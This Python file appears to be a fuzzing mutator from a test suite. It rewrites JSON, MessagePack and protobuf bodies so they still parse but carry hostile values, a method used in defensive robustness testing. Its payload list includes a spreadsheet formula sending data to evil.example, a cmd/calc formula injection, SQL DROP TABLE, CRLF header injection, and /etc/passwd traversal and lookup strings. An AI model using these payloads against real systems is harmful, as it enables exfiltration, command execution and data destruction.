"""
Hostile changes that keep a body well-formed, so that they reach what lies behind the parser: one value of a JSON or MessagePack
document becomes another, one field of a protobuf message is changed and all lengths around it are made right.
"""

import json
import random
from collections.abc import Callable, Iterator
from typing import Any, Final, NamedTuple

import msgpack

from meterline.testing.remote_write import varint


def nested(levels: int) -> Any:
    """
    Return lists and objects by turns, so many levels of them.
    """
    value: Any = 1
    for level in range(levels):
        value = [value] if level % 2 else {"a": value}
    return value


class Raw(NamedTuple):
    """
    Text that goes into a JSON document as it is.
    """

    text: str


TEXTS: Final[tuple[str, ...]] = (
    "",
    "\x00",
    "a\x00b",
    "\x1b[31mred\x07",
    "\u202egnp.exe",
    "\u2066\u2069\u200b\ufeff",
    "line\r\nX-Injected: 1\r\n\r\n",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE frames; --",
    "${env:HOME} ${file:/etc/passwd} {{7*7}} %s%n",
    "../../../../etc/passwd",
    "\ud800",
    "\U0010ffff\ufffe",
    "e\u0301" * 300,
    "NaN",
    "-0",
    "1e999999999",
    "9" * 5000,
    "x" * 5000,
)
"""Texts that harm whoever prints, logs, exports, interpolates or counts on them."""

VALUES: Final[tuple[Any, ...]] = (
    *TEXTS,
    None,
    True,
    [],
    {},
    [[]],
    0,
    -1,
    2**63 - 1,
    2**63,
    -(2**63) - 1,
    2**64,
    1e308,
    -5e-324,
    Raw("1e999999999"),
    Raw("-1E-999999999"),
    Raw("1" * 5000),
    Raw("0." + "1" * 5000),
    Raw("NaN"),
    Raw('{"a": 1, "a": 2}'),
    Raw('"\\ud83d"'),
    nested(63),
    nested(64),
    nested(65),
    nested(1000),
)
"""The same, and numbers, levels and shapes that no schema expects."""


def json_text(value: Any) -> bytes:
    """
    Write JSON, with ``Raw`` as it is and lone surrogates escaped; by hand, since the library's writer has a limit of levels.
    """
    parts: list[str] = []
    waiting: list[Any] = [value]
    while waiting:
        item = waiting.pop()
        if isinstance(item, dict):
            waiting += [Raw("}"), *reversed(list(_spread(item.items())))]
            parts.append("{")
        elif isinstance(item, list):
            waiting += [Raw("]"), *reversed([part for each in item for part in (Raw(","), each)][1:])]
            parts.append("[")
        else:
            parts.append(item.text if isinstance(item, Raw) else json.dumps(item, default=str))
    return "".join(parts).encode()


def _spread(pairs: Any) -> Iterator[Any]:
    for number, (key, value) in enumerate(pairs):
        yield Raw(("," if number else "") + json.dumps(str(key)) + ":")
        yield value


def changed(rng: random.Random, document: Any) -> Any:
    """
    Return a document with one value replaced, taken away, or put in twice.
    """
    places = list(_places(document))
    if not places:
        return rng.choice(VALUES)
    holder, key = rng.choice(places)
    what = rng.random()
    if what < 0.7:
        holder[key] = rng.choice(VALUES)
    elif what < 0.85:
        del holder[key]
    elif isinstance(holder, list):
        holder += [holder[key]] * rng.choice((1, 50))
    else:
        holder[rng.choice(TEXTS)] = holder[key]
    return document


def _places(document: Any, levels: int = 50) -> Iterator[tuple[Any, Any]]:
    if not isinstance(document, dict | list) or not levels:
        return
    for key, value in list(document.items() if isinstance(document, dict) else enumerate(document)):
        yield document, key
        yield from _places(value, levels - 1)


def changed_json(rng: random.Random, data: bytes) -> bytes | None:
    """
    Change a JSON document, or one line of NDJSON; None: it is neither.
    """
    lines = data.split(b"\n")
    number = rng.randrange(len(lines))
    try:
        document = json.loads(lines[number])
    except (ValueError, RecursionError):
        return None
    lines[number] = json_text(changed(rng, document))
    return b"\n".join(lines)


def changed_msgpack(rng: random.Random, data: bytes) -> bytes | None:
    """
    Change one of the MessagePack values that follow one another, also within a packed one; None: there are none.
    """
    try:
        values = list(_unpacked(data))
        place = rng.randrange(len(values))
        value = values[place]
        if isinstance(value, list) and len(value) > 1 and isinstance(value[1], bytes) and rng.random() < 0.8:
            value[1] = changed_msgpack(rng, value[1]) or value[1]
        else:
            values[place] = changed(rng, value)
        return b"".join(_packed(item) for item in values)
    except (ValueError, TypeError, OverflowError, msgpack.UnpackException):
        return None


def _unpacked(data: bytes) -> Iterator[Any]:
    unpacker = msgpack.Unpacker(strict_map_key=False, unicode_errors="surrogateescape")
    unpacker.feed(data)
    yield from unpacker


def _packed(value: Any) -> bytes:
    packed: bytes = msgpack.packb(value, unicode_errors="surrogatepass", default=str)
    return packed


# Protobuf


class Field(NamedTuple):
    """
    One field on the wire. ``value``: the bytes of its value, without the length of a length-delimited one.
    """

    number: int
    kind: int
    value: bytes


def changed_protobuf(rng: random.Random, data: bytes, levels: int = 12) -> bytes | None:
    """
    Change one field of a message, at a level drawn at random; None: it is no message.
    """
    fields = _fields(data)
    if not fields:
        return None
    place = rng.randrange(len(fields))
    field = fields[place]
    inner = (
        changed_protobuf(rng, field.value, levels - 1) if field.kind == 2 and levels and rng.random() < 0.85 else None
    )
    made = [field._replace(value=inner)] if inner is not None else rng.choice(_FIELD_CHANGES)(rng, field)
    return b"".join(map(_written, [*fields[:place], *made, *fields[place + 1 :]]))


_NUMBERS: Final = (0, 1, 2**31, 2**32 - 1, 2**63 - 1, 2**63, 2**64 - 1)
_FIELD_CHANGES: Final[tuple[Callable[[random.Random, Field], list[Field]], ...]] = (
    lambda rng, field: (
        [field._replace(value=rng.choice(TEXTS).encode("utf-8", "surrogatepass"))]
        if field.kind == 2
        else [field._replace(value=_number(rng, field.kind))]
    ),
    lambda _rng, _field: [],
    lambda rng, field: [field] * rng.choice((2, 100)),
    lambda rng, field: [field._replace(number=rng.randrange(1, 20))],
    lambda rng, field: [Field(field.number, rng.choice((0, 1, 5)), b"\x01" * 8), field],
    lambda _rng, field: [field._replace(value=_levels(field.value))] if field.kind == 2 else [field, field],
    lambda _rng, field: [field, Field(field.number, 3, b""), Field(field.number, 4, b"")],
)


def _number(rng: random.Random, kind: int) -> bytes:
    if kind == 0:
        return varint(rng.choice(_NUMBERS))
    specials = (
        b"\x00" * 8,
        b"\xff" * 8,
        b"\x00" * 6 + b"\xf0\x7f",
        b"\x00" * 6 + b"\xf0\xff",
        b"\x02" + b"\x00" * 5 + b"\xf0\x7f",
    )
    return rng.choice(specials)[: 8 if kind == 1 else 4]


def _levels(value: bytes) -> bytes:
    """
    Wrap a value in ArrayValues of AnyValues, or whatever fields 5 and 1 are there.
    """
    for _ in range(70):
        value = b"\x2a" + varint(len(value) + 1 + len(varint(len(value)))) + b"\x0a" + varint(len(value)) + value
    return value


def _written(field: Field) -> bytes:
    size = {1: 8, 5: 4}.get(field.kind)
    value = field.value if size is None else field.value[:size].ljust(size, b"\0")
    length = varint(len(value)) if field.kind == 2 else b""
    return varint(field.number << 3 | field.kind) + length + (value or (b"\0" if field.kind == 0 else b""))


def _fields(data: bytes) -> list[Field] | None:
    found, at = [], 0
    while at < len(data):
        tag, at = _varint(data, at)
        number, kind = tag >> 3, tag & 7
        if not number or kind not in (0, 1, 2, 5):
            return None
        size, start = _varint(data, at) if kind == 2 else ({1: 8, 5: 4}.get(kind, _varint(data, at)[1] - at), at)
        if start + size > len(data):
            return None
        found.append(Field(number, kind, data[start : start + size]))
        at = start + size
    return found


def _varint(data: bytes, at: int) -> tuple[int, int]:
    value = shift = 0
    while at < len(data) and shift < 70:
        value |= (data[at] & 0x7F) << shift
        at += 1
        if data[at - 1] < 0x80:
            return value, at
        shift += 7
    return 0, len(data) + 1
